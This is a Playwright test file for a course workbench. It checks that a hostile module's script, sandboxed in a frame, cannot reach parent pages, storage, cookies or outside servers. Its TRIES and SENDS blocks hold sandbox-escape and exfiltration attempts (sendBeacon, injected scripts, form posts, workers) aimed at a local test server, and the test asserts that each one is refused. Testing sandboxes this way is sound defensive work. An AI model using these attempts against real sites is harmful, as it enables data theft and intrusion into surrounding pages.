"""What a module can do in the site that means harm: nothing to the page around it, and to nobody elsewhere."""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Error, expect

from tests.patience import until
from tests.sampling import whole_only
from tests.site.conftest import module, read, write
from tests.site.test_site import new_course, started
from tests.workbench.test_page import to_line

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Frame, Page

    from tests.browser.contexts import Contexts
    from tests.site.conftest import Window

# What a script of a module might try, and what must be answered where it does not throw.
TRIES = {
    "top.document.title": None,
    "parent.parent.document.title": None,
    "parent.parent.parent.document.title": None,
    "parent.parent.sessionStorage.length": None,
    "localStorage.length": None,
    "sessionStorage.length": None,
    "document.cookie": None,
    "navigator.storage.getDirectory().then(String)": None,
    "indexedDB.open('workbench-site').onsuccess": None,
    "caches.keys().then(String)": None,
    "navigator.serviceWorker.getRegistrations().then(String)": None,
    "fetch('ELSEWHERE').then(String)": None,
    "fetch('ELSEWHERE', { mode: 'no-cors', keepalive: true }).then(String)": None,
    "fetch('HEREengine/library').then(String)": None,
    "import('ELSEWHEREa.js').then(String)": None,
    "(top.location = 'ELSEWHERE').toString()": None,
    "(parent.parent.location = 'ELSEWHERE').toString()": None,
    "String(window.open('ELSEWHERE'))": "null",
}
# What may seem to be done and must come to nothing.
SENDS = """async ([elsewhere, here]) => {
  navigator.sendBeacon(elsewhere + "beacon");
  new Image().src = elsewhere + "image";
  for (const address of [elsewhere, here]) {
    const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
    add("img", { src: address + "img" });
    add("script", { src: address + "script.js" });
    add("link", { rel: "stylesheet", href: address + "style.css" });
    add("link", { rel: "prefetch", href: address + "prefetch" });
    add("iframe", { src: address + "frame" });
    add("iframe", { srcdoc: `<script src="${address}inner.js"></` + `script><img src="${address}inner">` });
    add("style", { textContent: `body { background: url("${address}background") }` });
    add("video", { src: address + "video" });
    add("object", { data: address + "object" });
    const $form = document.createElement("form");
    $form.action = address + "form";
    document.body.append($form);
    $form.submit();
  }
  const $up = document.createElement("script");
  $up.textContent = "document.title = 'taken'";
  parent.document.head.append($up);
  try { new Worker(URL.createObjectURL(new Blob([`fetch("${elsewhere}worker")`]))); } catch {}
  parent.parent.postMessage({ ask: 1e6, address: "../../engine/library" }, "*");
}"""


BLOCK = "open('/home/author/courses/ran.txt', 'w').write('x')"
COURSE = """---
title: The gate
---
# At the gate
## Who comes

![A closed gate](media/gate.svg)

Read [what the council says](https://council.example/gates).

### Question: What do you ask first?
- [x] Who they have come to see
- [ ] Nothing
"""
GATE = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" viewBox="0 0 40 20"><path d="M0 0h40v20H0z"/></svg>'
)


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of a server elsewhere, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the library's own name

        def log_message(self, *_: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/", asked
    server.shutdown()
    server.server_close()


def frame_of(page: Page) -> Frame:
    """The module's own frame: what is evaluated there is what its script may do."""
    module(page).locator("section.page:not([hidden])").first.wait_for()
    return page.frames[-1]


def outcome(frame: Frame, script: str) -> str | None:
    """What it gives; None where it is refused."""
    caught = f"async () => {{ try {{ return String(await ({script})) }} catch (reason) {{ return null }} }}"
    given: str | None = frame.evaluate(caught)
    return given


def test_a_hostile_module_reaches_nothing(
    opened: Window, contexts: Contexts, address: str, elsewhere: tuple[str, list[str]]
) -> None:
    page = opened()
    write(page, "blocks/greedy/block.py", BLOCK)
    write(page, "blocks/greedy/block.js", "globalThis.ran = 1;")
    new_course(started(page))
    frame = frame_of(page)
    there, asked = elsewhere
    given = {script: outcome(frame, script.replace("ELSEWHERE", there).replace("HERE", address)) for script in TRIES}
    assert given == TRIES
    frame.evaluate(SENDS, [there, address])
    # Its pane lives on, and so does the workbench around it: what was sent before that has been refused by now.
    to_line(page, "This module works as it is.")
    page.keyboard.type(" It still does.")
    until(lambda: "It still does." in read(page, "keeping-visitors-safe/course.md"))
    expect(module(page).locator("body")).to_contain_text("It still does.")
    assert asked == []
    assert page.title() != "taken"
    assert frame_of(page).evaluate("() => globalThis.ran") is None
    contexts.faults.clear()  # what was refused
    with pytest.raises(Error, match="NotFoundError"):  # the block's Python did not run
        read(page, "ran.txt")


@whole_only
def test_a_module_plays_there_as_elsewhere(opened: Window, address: str) -> None:
    page = opened()
    write(page, "gate/course.md", COURSE)
    write(page, "gate/media/gate.svg", GATE)
    started(page)
    page.goto(f"{address}#/courses/gate/write")
    to_line(page, "Read")
    picture = module(page).get_by_role("img", name="A closed gate")
    expect(picture).to_be_visible()
    until(lambda: picture.evaluate("one => one.naturalWidth > 0"))

    page.once("dialog", lambda dialog: dialog.dismiss())
    with page.expect_event("dialog") as asked:
        module(page).get_by_role("link", name="what the council says").click()
    assert "https://council.example/gates" in asked.value.message
    assert len(page.context.pages) == 1

    module(page).get_by_label("Who they have come to see").check()
    module(page).get_by_role("button", name="Check answer").click()
    pane = page.frame_locator("iframe[title='The module, as learners see it']").frame_locator("iframe")
    expect(pane.locator(".quiet > summary")).to_contain_text("100%")
    page.reload()
    expect(pane.locator(".quiet > summary")).to_contain_text("100%")  # as long as the tab is there
